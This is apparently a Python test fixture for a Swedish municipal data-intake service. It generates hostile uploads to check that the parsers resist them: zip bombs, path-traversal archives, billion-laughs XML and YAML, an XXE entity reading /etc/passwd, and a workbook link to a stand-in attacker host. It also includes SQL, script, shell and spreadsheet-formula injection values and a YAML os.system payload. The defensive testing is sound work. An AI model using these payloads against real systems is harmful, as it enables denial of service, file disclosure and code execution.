"""Files made to hurt: bombs, paths, entities, formulas, code, depth, width, and texts that make a careless pattern slow."""

import io
import json
import zipfile
from collections.abc import Callable

from tests.intake.files import book, replaced

HEADER = "indikator;område;period;grupp;värde;täljare;nämnare;status;kommentar\n"
LINE = "employment;010;2023;;;20;40;;\n"
SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
LEDGER = "nämnd;källa;typ;belopp;datum;anteckning\n"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def workbook() -> bytes:
    return book({"Blad1": [["indikator", "Område", "Period", "Täljare", "Nämnare"], ["employment", "010", 2023, 20, 40]]})


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return kept.getvalue()


def with_parts(content: bytes, parts: dict[str, bytes]) -> bytes:
    """Return the workbook with parts added, or put in the place of those of the same name."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return zipped({**{name: source.read(name) for name in source.namelist()}, **parts})


def in_sheet(begin: bytes, old: bytes = b"", new: bytes = b"") -> bytes:
    """Return the workbook with something before the root of its sheet, and something else in it."""
    found = replaced(workbook(), SHEET, b"<worksheet ", begin + b"<worksheet ")
    return replaced(found, SHEET, old, new) if old else found


def bomb(part: str, said: int) -> bytes:
    """A package with a part that unpacks to 60 MB of nothing, and is said to be of that many bytes."""
    content = with_parts(workbook(), {part: b"\0" * 60_000_000})
    return content.replace((60_000_000).to_bytes(4, "little"), said.to_bytes(4, "little"))


def overlapping() -> bytes:
    """A package in which a thousand names are the same bytes, which unpack to 300 kB each."""
    content = zipped({"xl/workbook.xml": b"<x/>", "a": b"\0" * 300_000})
    begin, end = content.rindex(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entry, count = content[begin:end], 1000
    first = content[content.index(b"PK\x01\x02") : begin]
    entries = first + b"".join(entry.replace(b"a", b"%c" % (98 + n % 20)) for n in range(count))
    tail = b"PK\x05\x06\0\0\0\0" + (count + 1).to_bytes(2, "little") * 2
    start = content.index(b"PK\x01\x02")
    return content[:start] + entries + tail + len(entries).to_bytes(4, "little") + start.to_bytes(4, "little") + b"\0\0"


def figures(area: str = "010", period: str = "2023", comment: str = "", numerator: str = "20") -> bytes:
    return f'{HEADER}employment;"{area}";{period};;;{numerator};40;;"{comment}"\n'.encode()


def cube(sizes: list[object], value: object = None) -> bytes:
    dimensions = {"Region": {"category": {"index": ["010"]}}, "Tid": {"category": {"index": ["2023"]}}}
    return json.dumps(
        {"class": "dataset", "id": list(dimensions), "size": sizes, "dimension": dimensions, "value": value}
    ).encode()


def borders(name: str, geometry: str) -> bytes:
    feature = f'{{"type":"Feature","properties":{{"kod":"11","namn":"{name}"}},"geometry":{geometry}}}'
    return f'{{"type":"FeatureCollection","features":[{feature}]}}'.encode()


def nested(text: bytes, end: bytes, depth: int) -> bytes:
    return text * depth + end * depth


# Door, file. The doors: what an officer uploads, the city's accounts, the register's YAML, borders.
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "xlsx: en bomb som säger sin storlek": ("figures", lambda: bomb("xl/x.xml", 2_000_000_000)),
    "xlsx: en bomb som ljuger om sin storlek": ("figures", lambda: bomb("xl/x.xml", 10)),
    "xlsx: en bomb under gränsen": ("figures", lambda: with_parts(workbook(), {"xl/x.xml": b"<c/>" * 15_000_000})),
    "xlsx: tusen namn på samma byte": ("figures", overlapping),
    "xlsx: sextusen delar": ("figures", lambda: with_parts(workbook(), {f"xl/{n}": b"" for n in range(6000)})),
    "xlsx: zip i zip": ("figures", lambda: zipped({"a.zip": zipped({"b.zip": b"x"})})),
    "xlsx: delar med sökvägar uppåt": (
        "figures",
        lambda: with_parts(workbook(), {"../../../tmp/kk_hostile": b"x", "/etc/x": b"x"}),
    ),
    "xlsx: entiteter som växer (billion laughs)": (
        "figures",
        lambda: in_sheet(f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'.encode(), b"<v>20</v>", b"<v>&l9;</v>"),
    ),
    "xlsx: entitet som pekar på en fil (XXE)": (
        "figures",
        lambda: replaced(
            replaced(workbook(), TEXTS, b"<sst ", b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst '),
            TEXTS,
            b"010",
            b"&f;",
        ),
    ),
    "xlsx: två celler i var sin ände av bladet": ("figures", lambda: in_sheet(b"", b'r="E2"', b'r="XFD1048576"')),
    "xlsx: formel som aldrig räknats ut": ("figures", lambda: in_sheet(b"", b"<v>20</v>", b"<f>SUM(A1:A9)</f>")),
    "xlsx: länk till en annan arbetsbok": (
        "figures",
        lambda: in_sheet(b"", b"<v>20</v>", b"<f>[http://angripare.se/x.xlsx]A!A1</f><v>20</v>"),
    ),
    "csv: en miljon kolumner i rubriken": ("figures", lambda: b"indikator;" + b"a;" * 1_000_000 + b"\nx;1\n"),
    "csv: en miljon celler i en rad": ("figures", lambda: (HEADER + LINE).encode() + b"x;" * 1_000_000 + b"\n"),
    "csv: en rad på 40 MB": ("figures", lambda: HEADER.encode() + b"x" * 40_000_000),
    "csv: ett citattecken som aldrig slutar": ("figures", lambda: HEADER.encode() + b'employment;"010;2023\n' * 300_000),
    "csv: fyra miljoner rader": ("figures", lambda: b"period;v\xc3\xa4rde\n" + b"1;2\n" * 4_000_000),
    "csv: nolltecken": ("figures", lambda: HEADER.encode() + b"employment;\0;2023;;;20;40;;\n"),
    "csv: SQL som område": ("figures", lambda: figures("'); DROP TABLE observation; --")),
    "csv: HTML som område": ("figures", lambda: figures("<script>alert(1)</script>")),
    "csv: formel som område": ("figures", lambda: figures("=cmd|' /C calc'!A0")),
    "csv: skal och typst som område": ("figures", lambda: figures("$(rm -rf /) #import \\u{0} `id`")),
    "csv: formel och HTML som kommentar": ("figures", lambda: figures(comment="=1+1<img src=x onerror=alert(1)>")),
    "csv: osynliga tecken och omvänd skrivriktning": ("figures", lambda: figures("\u202e010\u200b\u2066")),
    "csv: tal utan slut": ("figures", lambda: figures(numerator="9" * 100_000)),
    "csv: tal som är oändligt": ("figures", lambda: figures(numerator="1e999")),
    "csv: period som blir lång": ("figures", lambda: figures(period="2" * 100_000)),
    "csv: text som gör ett mönster långsamt": ("figures", lambda: figures(comment="a.a-" * 200_000 + "@" + "Aa " * 200_000)),
    "csv: siffror som gör sökningen efter personnummer långsam": ("figures", lambda: figures(comment="121212-" * 100_000)),
    "json: djupt": ("figures", lambda: nested(b"[", b"]", 1_000_000)),
    "json: djupa objekt": ("figures", lambda: nested(b'{"a":', b"}", 300_000).replace(b":}", b":1}")),
    "json: ett tal med en miljon siffror": (
        "figures",
        lambda: cube([1, 1], [1]).replace(b"[1]}", b"[" + b"9" * 1_000_000 + b"]}"),
    ),
    "json: en kub som säger sig vara oändlig": ("figures", lambda: cube([10**9, 10**9], {})),
    "json: storlekar som inte är tal": ("figures", lambda: cube([-1, "x"], [1])),
    "px: ett nyckelord som aldrig slutar": ("figures", lambda: b'CHARSET="ANSI";\nTITLE="' + b"x" * 10_000_000),
    "räkenskaper: en miljon kolumner": ("ledger", lambda: LEDGER.encode() + b"x;" * 1_000_000),
    "räkenskaper: formel och HTML som anteckning": (
        "ledger",
        lambda: (LEDGER + "Grundskolenämnden;egen ram;utfall;1;2024-01-01;=1+1<script>\n").encode(),
    ),
    "yaml: alias som växer (billion laughs)": (
        "register",
        lambda: ("a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))).encode(),
    ),
    "yaml: djupt": ("register", lambda: b"decisions: " + nested(b"[", b"]", 100_000)),
    "yaml: kod": ("register", lambda: b"decisions:\n - !!python/object/apply:os.system ['touch /tmp/kk_hostile']\n"),
    "yaml: tjugo megabyte": ("register", lambda: b"decisions:\n" + b" - {a: b}\n" * 2_000_000),
    "gränser: djup geometri": (
        "borders",
        lambda: borders("A", f'{{"type":"Polygon","coordinates":{"[" * 100_000}{"]" * 100_000}}}'),
    ),
    "gränser: djupa samlingar av geometrier": (
        "borders",
        lambda: borders("A", '{"type":"GeometryCollection","geometries":[' * 900 + "]}" * 900),
    ),
    "gränser: en zip med sökvägar uppåt": (
        "borders",
        lambda: zipped({f"../../../tmp/kk_hostile{end}": b"x" for end in (".shp", ".shx", ".dbf")}),
    ),
    "gränser: en zip som är en bomb": ("borders", lambda: bomb("a.geojson", 2_000_000_000)),
    "gränser: koordinater som inte är tal": ("borders", lambda: borders("A", '{"type":"Point","coordinates":[1e999,"x"]}')),
}
